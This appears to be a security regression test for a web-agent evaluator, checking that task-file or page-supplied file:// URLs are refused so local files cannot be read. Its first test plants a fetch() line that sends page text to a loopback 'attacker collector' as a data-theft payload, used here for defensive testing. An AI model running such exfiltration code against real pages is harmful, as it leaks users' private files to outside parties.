// Security: program_html opens web pages only. Its target URL comes from the task file (one the user imports)
// or from a func: helper that reads a link off the page the agent ended on (a page anyone can write). A file://
// URL there put a local file in the browser, where the target's prep_actions (JavaScript from the task file)
// could send it anywhere, and its text into the stored evaluation — the goto rule (actions/executor.ts) for
// the evaluator's own navigation.
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { Browser, Page } from 'playwright';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { evaluateEpisode } from '../../main/eval/evaluate';
import { useLoopback } from '../helpers/fixture-pages';
import { connectBrowser } from '../helpers/shared-browser';

const SECRET = 'private-line-3f9c';
const beacons: string[] = [];
// The attacker's collector, and a shop whose "My Orders" link points at the user's file.
const site = useLoopback((req, res) => {
  const url = new URL(req.url ?? '/', 'http://x');
  if (url.pathname === '/collect') beacons.push(url.searchParams.get('d') ?? '');
  const body = url.pathname === '/sales/order/history/' ? `<div id="my-orders-table"><a class="action view" href="${secretUrl}">View Order</a></div>` : 'ok';
  res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
  res.end(`<!doctype html><html><body>${body}</body></html>`);
});
let dir: string;
let secretUrl: string;
let browser: Browser;
let page: Page;

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'mira-sec-'));
  const file = join(dir, 'secret.txt');
  writeFileSync(file, SECRET);
  secretUrl = pathToFileURL(file).href;
  browser = await connectBrowser();
  page = await browser.newPage();
});

afterAll(async () => {
  await browser?.close();
  rmSync(dir, { recursive: true, force: true });
});

const ctx = () => ({
  answer: null, finalUrl: page.url(), profile: 'webarena' as const, page, settleMs: 0,
  placeholders: (s: string) => s.replaceAll('__SHOPPING__', site.url),
});
const htmlTask = (program_html: unknown[]) => ({ task_id: 1, intent: 'x', eval: { eval_types: ['program_html'], program_html } });

describe('program_html navigation', () => {
  it('refuses a file:// target URL from the task file: nothing is read or sent', async () => {
    await page.goto(`${site.url}/start`);
    const r = await evaluateEpisode(htmlTask([{
      url: secretUrl,
      // Awaited by the evaluator, so the request has reached the collector (or was never made) when it returns.
      prep_actions: [`fetch(${JSON.stringify(`${site.url}/collect?d=`)} + encodeURIComponent(document.body.innerText), { mode: 'no-cors' })`],
      locator: 'document.body.innerText',
      required_contents: { must_include: [SECRET] },
    }]), ctx());
    expect(beacons).toEqual([]);
    expect(r.checks[0]).toMatchObject({ passed: false, actual: '' });
    expect(r.checks[0].note).toMatch(/web pages only/);
    expect(page.url()).not.toMatch(/^file:/);
  });

  it('refuses a file:// link that a func: helper read off the page', async () => {
    const r = await evaluateEpisode(htmlTask([{
      url: "func:shopping_get_latest_order_url('__SHOPPING__')",
      locator: 'document.body.innerText',
      required_contents: { must_include: [SECRET] },
    }]), ctx());
    expect(r.checks[0]).toMatchObject({ passed: false, actual: '' });
    expect(r.checks[0].note).toMatch(/web pages only/);
    expect(page.url()).not.toMatch(/^file:/);
  });
});
